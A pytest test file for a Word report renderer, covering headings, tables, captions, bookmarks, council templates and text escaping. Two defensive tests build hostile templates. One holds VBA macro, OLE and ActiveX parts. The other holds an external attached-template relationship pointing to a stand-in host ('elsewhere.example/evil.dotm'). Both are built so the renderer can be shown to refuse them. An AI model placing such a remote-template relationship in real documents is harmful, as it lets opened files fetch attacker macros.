"""Word: a file that a council can edit, read aloud, and put into its own template."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from docx import Document as NewWord
from docx.document import Document as WordFile
from docx.oxml.ns import qn
from docx.shared import Pt
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.publication.small import paper, people

from frith.publication.disclosure import publishable
from frith.publication.document import (
    Bullets,
    Document,
    Heading,
    PageBreak,
    Paragraph,
    PictureBlock,
    TableBlock,
)
from frith.publication.outline import outline
from frith.publication.plain_text import as_printed
from frith.publication.word import render_word
from frith.publication.wording import row_texts, shown_columns
from frith.vocabulary.disclosure import Audience
from frith.vocabulary.faults import Refused, UnreadableInput


@pytest.fixture(scope="module")
def word(sample_word: bytes) -> WordFile:
    return NewWord(io.BytesIO(sample_word))


def _tags(file: WordFile, tag: str) -> list:
    return list(file.element.body.iter(qn(tag)))


def test_headings_are_headings(word: WordFile, sample: Document) -> None:
    laid = outline(sample)
    found = [(p.style.name, p.text) for p in word.paragraphs if p.style.name.startswith("Heading")]
    wanted = [
        (f"Heading {p.block.level}", f"{p.label}  {p.block.text}" if p.label else p.block.text)
        for p in (laid.body + laid.annex + (laid.how_we_know, laid.sources))
        if isinstance(p.block, Heading)
    ]
    assert found == wanted


def test_contents_and_captions_are_fields(word: WordFile, sample: Document) -> None:
    instructions = [str(element.text) for element in _tags(word, "w:instrText")]
    assert any("TOC" in text for text in instructions)
    pictures = sum(isinstance(block, PictureBlock) for block in sample.body)
    assert sum("SEQ Figure" in text for text in instructions) == pictures
    assert sum("SEQ Table" in text for text in instructions) == 4
    captions = [p.text for p in word.paragraphs if p.style.name == "Caption"]
    assert captions[0] == "Figure 1  Crime is highest in the areas around the market"


def test_tables_are_editable_and_repeat_their_header(word: WordFile, sample: Document) -> None:
    wanted = [b.content.table for b in (*sample.body, *sample.annex) if isinstance(b, TableBlock)]
    found = [table for table in word.tables if table.rows[0]._tr.find(qn("w:trPr")) is not None]
    found = [table for table in found if table.rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None]
    assert len(found) == len(wanted)
    for made, table in zip(found, wanted, strict=True):
        assert made.style.name == "Frith Table"
        shown = shown_columns(table)
        first = row_texts(table, table.rows[0])
        assert [cell.text for cell in made.rows[0].cells] == [table.columns[n].label for n in shown]
        assert [cell.text for cell in made.rows[1].cells] == [first[n] for n in shown]
        assert len(made.rows) == len(table.rows) + 1


def test_pictures_have_alternative_text(word: WordFile, sample: Document) -> None:
    described = [shape._inline.docPr.get("descr") for shape in word.inline_shapes]
    assert described == [block.picture.alt for block in sample.body if isinstance(block, PictureBlock)]


def test_every_link_leads_to_a_bookmark(word: WordFile, sample: Document) -> None:
    names = [mark.get(qn("w:name")) for mark in _tags(word, "w:bookmarkStart")]
    assert len(names) == len(set(names))
    assert all(len(name) <= 40 for name in names)
    links = {link.get(qn("w:anchor")) for link in _tags(word, "w:hyperlink")}
    assert links <= set(names)
    assert len(links) > len(sample.figures)


def test_the_marking_and_stamp_are_on_every_page(word: WordFile, sample: Document) -> None:
    (section,) = word.sections
    header = " ".join(p.text for p in section.header.paragraphs)
    footer = section.footer.paragraphs
    assert "OFFICIAL" in header
    assert sample.invented in header
    assert "OFFICIAL" in footer[0].text
    assert any("PAGE" in str(e.text) for e in section.footer._element.iter(qn("w:instrText")))


def test_a_second_list_counts_from_one_again() -> None:
    items = Bullets((("First",), ("Second",)), ordered=True)
    file = NewWord(io.BytesIO(render_word(paper(items, Paragraph(("Between",)), items))))
    numbers = [p._p.pPr.numPr.numId.val for p in file.paragraphs if p.style.name == "List Number"]
    assert numbers[0] == numbers[1] != numbers[2] == numbers[3]


def test_a_page_break_begins_the_next_block() -> None:
    file = NewWord(io.BytesIO(render_word(paper(Paragraph(("One",)), PageBreak(), Heading(1, "Two", "two")))))
    (heading,) = (p for p in file.paragraphs if p.text == "1  Two")
    assert heading.paragraph_format.page_break_before


def test_properties_say_nothing_of_the_machine(word: WordFile, sample: Document) -> None:
    core = word.core_properties
    assert core.title == sample.title
    assert core.author == core.last_modified_by == sample.publisher
    assert core.created.date() == core.modified.date() == sample.as_at


def _template(path: Path) -> Path:
    file = NewWord()
    file.styles["Heading 1"].font.size = Pt(33)
    file.sections[0].header.paragraphs[0].text = "The council’s own header"
    file.add_paragraph("To be replaced")
    file.save(str(path))
    return path


def test_a_councils_template_keeps_its_looks(sample: Document, tmp_path: Path) -> None:
    file = NewWord(io.BytesIO(render_word(sample, _template(tmp_path / "own.docx"))))
    assert file.styles["Heading 1"].font.size == Pt(33)
    text = "\n".join(p.text for p in file.paragraphs)
    assert "To be replaced" not in text
    assert "Findings in order of importance" in text
    header = [p.text for p in file.sections[0].header.paragraphs]
    assert header[0] == "The council’s own header"
    assert "OFFICIAL" in header


def _with_part(path: Path, name: str, content: bytes, replacing: str = "") -> Path:
    """Add a part to a Word file, or put new content into one."""
    parts = {}
    with zipfile.ZipFile(path) as old:
        parts = {info: old.read(info) for info in old.namelist()}
    parts[replacing or name] = content
    with zipfile.ZipFile(path, "w") as new:
        for part, held in parts.items():
            new.writestr(part, held)
    return path


def test_macros_and_objects_are_refused(sample: Document, tmp_path: Path) -> None:
    for name in ("word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml"):
        unsafe = _with_part(_template(tmp_path / "own.docx"), name, b"x")
        with pytest.raises(Refused, match="something that acts"):
            render_word(sample, unsafe)


def test_a_template_that_fetches_from_elsewhere_is_refused(sample: Document, tmp_path: Path) -> None:
    relationships = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Target="http://elsewhere.example/evil.dotm" TargetMode="External" Type="'
        b'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    unsafe = _with_part(_template(tmp_path / "own.docx"), "word/_rels/settings.xml.rels", relationships)
    with pytest.raises(Refused, match=r"elsewhere\.example"):
        render_word(sample, unsafe)


@pytest.mark.parametrize("content", [b"", b"not a zip", b"PK\x03\x04 cut short"])
def test_what_is_no_word_file_is_said_to_be_none(sample: Document, tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "broken.docx"
    path.write_bytes(content)
    with pytest.raises(UnreadableInput, match="cannot be used"):
        render_word(sample, path)


def test_a_zip_that_is_no_word_file_is_said_to_be_none(sample: Document, tmp_path: Path) -> None:
    path = tmp_path / "other.docx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("readme.txt", "hello")
    with pytest.raises(UnreadableInput, match="cannot be used"):
        render_word(sample, path)


@settings(max_examples=25, deadline=None)
@given(st.text(st.characters(exclude_categories=("Cs",)), min_size=1, max_size=30))
def test_any_text_can_be_written(nasty: str) -> None:
    """Signs of XML stay text; control characters, which XML does not allow, are left out."""
    table = TableBlock(publishable(people(((nasty, 40),), "n"), Audience.PARTNERSHIP))
    file = NewWord(io.BytesIO(render_word(paper(Heading(1, nasty, "a"), Paragraph((nasty,)), table))))
    wanted = as_printed(nasty).replace("\n", "")
    assert wanted in "".join(p.text.replace("\n", "") for p in file.paragraphs)
    assert wanted in "".join(cell.text.replace("\n", "") for table in file.tables for cell in table._cells)
